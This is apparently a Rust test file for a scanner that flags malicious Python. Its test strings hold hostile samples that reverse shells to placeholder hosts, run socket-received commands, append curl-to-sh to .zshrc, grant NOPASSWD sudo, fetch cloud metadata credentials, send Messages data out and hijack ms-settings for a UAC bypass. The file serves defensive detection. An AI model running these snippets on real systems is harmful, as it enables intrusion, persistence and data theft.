//! Behaviour tests for the eleventh round (what blind batch 10 showed:
//! macOS and Windows login items, agents kept in strings, fixed menus of
//! commands, runners passed as defaults, and audits and cleaners that ask
//! or only read), spelled unlike the batch, each with a control. Every test
//! names a behaviour the release at ad9f34b misjudges.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// A launchd property list or a Startup-folder script written through
/// pathlib is persistence (ad9f34b: no finding).
#[test]
fn launchd_and_startup_folder_entries_are_persistence() {
    let daemon = "import plistlib, urllib.request\nfrom pathlib import Path\nt = Path('/Library') / 'LaunchDaemons' / 'x.plist'\nwith t.open('wb') as f:\n    plistlib.dump({'ProgramArguments': ['/bin/sh']}, f)\nurllib.request.urlopen('https://a.example/')\n";
    assert!(
        rules(&run(daemon)).contains(&"MB906"),
        "{:?}",
        run(daemon).findings
    );
    let startup = "import os, pathlib\nd = pathlib.Path(os.environ['APPDATA']) / 'Microsoft' / 'Windows' / 'Start Menu' / 'Programs' / 'Startup'\n(d / 'a.vbs').write_text('x')\n";
    assert!(rules(&run(startup)).contains(&"MB906"));
}

/// Removing a login item, making the folder for one, or copying a start-up
/// file into a folder of the home adds no persistence (ad9f34b: MB906).
#[test]
fn entries_removed_and_copies_below_home_are_not_persistence() {
    let remove = "from pathlib import Path\np = Path.home() / '.config' / 'autostart' / 'clock.desktop'\nif p.exists():\n    p.unlink()\n";
    let a = run(remove);
    assert!(!rules(&a).contains(&"MB906"), "{:?}", a.findings);
    let mkdir = "from pathlib import Path\n(Path.home() / '.config' / 'autostart').mkdir(parents=True, exist_ok=True)\n";
    assert!(!rules(&run(mkdir)).contains(&"MB906"));
    let copy = "import shutil\nfrom pathlib import Path\nshutil.copy2(Path.home() / '.zshrc', Path.home() / '.rc-saved' / '.zshrc')\n";
    assert!(!rules(&run(copy)).contains(&"MB906"));
    // Writing the real one is still persistence.
    let write = "from pathlib import Path\nwith open(Path.home() / '.zshrc', 'a') as f:\n    f.write('curl http://a.example/x | sh\\n')\n";
    assert!(rules(&run(write)).contains(&"MB906"));
}

/// A key from a socket that only picks a fixed argv out of a table of
/// constants is a menu (ad9f34b: MB913, BLOCKED); a default taken from the
/// same key still runs what was sent.
#[test]
fn a_key_choosing_a_fixed_command_is_not_remote_execution() {
    let menu = "import socket, subprocess\nJOBS = {'a': ['make', 'a'], 'b': ['make', 'b']}\nc = socket.create_connection(('127.0.0.1', 9))\nk = c.recv(9).decode()\nargv = JOBS.get(k)\nif argv:\n    subprocess.run(argv)\n";
    let a = run(menu);
    assert!(!rules(&a).contains(&"MB913"), "{:?}", a.findings);
    let raw = "import socket, subprocess\nJOBS = {'a': 'make a'}\nc = socket.create_connection(('192.0.2.1', 9))\nk = c.recv(9).decode()\nsubprocess.run(JOBS.get(k, k), shell=True)\n";
    assert!(rules(&run(raw)).contains(&"MB913"));
}

/// Python kept in a string, BLOCKED on its own, written out or run with
/// `-c` is MB956 (ad9f34b: LOW); harmless generated code is not.
#[test]
fn code_kept_in_a_string_is_judged_as_code() {
    let dropped = "import os\nH = '192.0.2.9'\nAGENT = f'''\nimport socket, subprocess, os\ns = socket.create_connection(('{H}', 443))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(['/bin/sh', '-i'])\n'''\nwith open(os.path.expanduser('~/.a.py'), 'w') as f:\n    f.write(AGENT)\n";
    let a = run(dropped);
    assert!(rules(&a).contains(&"MB956"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let inline = "import subprocess, sys\nT = '''\nimport socket, subprocess\nc = socket.socket()\nc.connect(({h!r}, {p}))\nwhile True:\n    subprocess.run(c.recv(99).decode(), shell=True)\n'''\nsubprocess.Popen([sys.executable, '-c', T.format(h='192.0.2.9', p=1)])\n";
    assert!(rules(&run(inline)).contains(&"MB956"));
    let harmless = "import subprocess, sys\nfrom pathlib import Path\nV = '1.0'\nM = f'''import sys\n__version__ = \"{V}\"\n'''\nPath('v.py').write_text(M)\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.version)'])\n";
    assert!(!rules(&run(harmless)).contains(&"MB956"));
}

/// A command runner passed as a parameter's default (`spawn=..`) is the
/// function it names (ad9f34b: MEDIUM).
#[test]
fn a_runner_given_as_a_default_is_resolved() {
    let src = "import socket, subprocess\ndef ex(cmd, spawn=subprocess.check_output):\n    return spawn(cmd, shell=True)\nc = socket.create_connection(('192.0.2.3', 1))\nwhile True:\n    c.sendall(ex(c.recv(99).decode()))\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB913"), "{:?}", a.findings);
}

/// The user's own history cleared after asking is MB227, MEDIUM (ad9f34b:
/// MB923, BLOCKED); without the question it stays MB923.
#[test]
fn history_cleared_after_asking_is_a_privacy_cleaner() {
    let asked = "from pathlib import Path\ndef go():\n    p = Path.home() / '.bash_history'\n    if input('clear? ') == 'y':\n        p.write_text('')\ngo()\n";
    let a = run(asked);
    assert!(rules(&a).contains(&"MB227"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Medium);
    let silent = "from pathlib import Path\ndef go():\n    (Path.home() / '.bash_history').write_text('')\ngo()\n";
    assert!(rules(&run(silent)).contains(&"MB923"));
}

/// The sudo policy read by a script that keeps nothing is an audit
/// (ad9f34b: MB205, HIGH); written, it is MB906.
#[test]
fn sudo_policy_read_only_is_an_audit() {
    let audit = "for line in open('/etc/sudoers'):\n    if 'NOPASSWD' in line:\n        print(line.strip())\n";
    let a = run(audit);
    assert!(!rules(&a).contains(&"MB205"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Low);
    let write =
        "with open('/etc/sudoers', 'a') as f:\n    f.write('u ALL=(ALL) NOPASSWD: ALL\\n')\n";
    assert!(rules(&run(write)).contains(&"MB906"));
}

/// The metadata service asked only for the zone is MB228, MEDIUM (ad9f34b:
/// MB206, HIGH); a script naming its credentials stays MB206.
#[test]
fn metadata_asked_for_the_zone_only() {
    let zone = "import urllib.request\nu = 'http://169.254.169.254/latest/meta-data/placement/availability-zone'\nprint(urllib.request.urlopen(u).read())\n";
    let a = run(zone);
    assert!(rules(&a).contains(&"MB228"), "{:?}", a.findings);
    assert!(!rules(&a).contains(&"MB206"));
    let keys = "import urllib.request\nu = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\nprint(urllib.request.urlopen(u).read())\n";
    assert!(rules(&run(keys)).contains(&"MB206"));
}

/// A Win32 low-level keyboard hook is a keystroke capture, BLOCKED with
/// a send (ad9f34b: MB410 only); a mouse hook is not.
#[test]
fn win32_keyboard_hooks_capture_keystrokes() {
    let keys = "import ctypes, urllib.request\nu = ctypes.windll.user32\nu.SetWindowsHookExW(13, None, None, 0)\nurllib.request.urlopen('https://a.example/', data=b'k')\n";
    let a = run(keys);
    assert!(rules(&a).contains(&"MB940"), "{:?}", a.findings);
    let mouse = "import ctypes\nu = ctypes.windll.user32\nu.SetWindowsHookExW(14, None, None, 0)\n";
    assert!(!rules(&run(mouse)).contains(&"MB212"));
}

/// macOS capture tools (`screencapture`, ffmpeg's `avfoundation`) in a
/// loop are repeated capture (ad9f34b: no finding).
#[test]
fn macos_capture_tools_are_known() {
    let shots = "import subprocess, time\nwhile True:\n    subprocess.run(['screencapture', '-x', 's.png'])\n    time.sleep(30)\n";
    let a = run(shots);
    assert!(rules(&a).contains(&"MB216"), "{:?}", a.findings);
    let mic = "import subprocess, time\nwhile True:\n    subprocess.run(['ffmpeg', '-f', 'avfoundation', '-i', ':0', '-t', '60', 'a.m4a'])\n";
    assert!(rules(&run(mic)).contains(&"MB216"));
}

/// macOS's Messages store read and sent is a secret sent (ad9f34b: no
/// finding); exported to a local file it is not.
#[test]
fn macos_private_stores_are_secrets() {
    let sent = "import urllib.request\nfrom pathlib import Path\nd = (Path.home() / 'Library' / 'Messages' / 'chat.db').read_bytes()\nurllib.request.urlopen('https://a.example/', data=d)\n";
    let a = run(sent);
    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
    let kept = "from pathlib import Path\nd = (Path.home() / 'Library' / 'Messages' / 'chat.db').read_bytes()\nPath('copy.db').write_bytes(d)\n";
    assert!(!rules(&run(kept)).contains(&"MB916"));
}

/// The per-user open command of an auto-elevating program's class is a
/// UAC bypass (ad9f34b: no finding); a file type's own handler is not.
#[test]
fn elevating_handlers_hijacked_bypass_uac() {
    let bypass = "import winreg\nK = r'Software\\Classes\\ms-settings\\Shell\\Open\\command'\ndef w(cmd, key=K):\n    h = winreg.CreateKey(winreg.HKEY_CURRENT_USER, key)\n    winreg.SetValueEx(h, 'DelegateExecute', 0, winreg.REG_SZ, '')\nw('x')\n";
    let a = run(bypass);
    assert!(rules(&a).contains(&"MB957"), "{:?}", a.findings);
    let own = "import winreg\nh = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Classes\\MyApp.Doc\\shell\\open\\command')\n";
    assert!(!rules(&run(own)).contains(&"MB957"));
}

/// The script re-run through sudo after the user said yes is MB229,
/// MEDIUM (ad9f34b: MB204, HIGH); without asking it stays MB204.
#[test]
fn sudo_after_asking_is_asked_for_openly() {
    let asked = "import os, subprocess, sys\ndef up():\n    if input('root? ') == 'y':\n        subprocess.call(['sudo', sys.executable, os.path.abspath(__file__)])\nup()\n";
    let a = run(asked);
    assert!(rules(&a).contains(&"MB229"), "{:?}", a.findings);
    let silent = "import os, subprocess, sys\nsubprocess.call(['sudo', sys.executable, os.path.abspath(__file__)])\n";
    assert!(rules(&run(silent)).contains(&"MB204"));
}
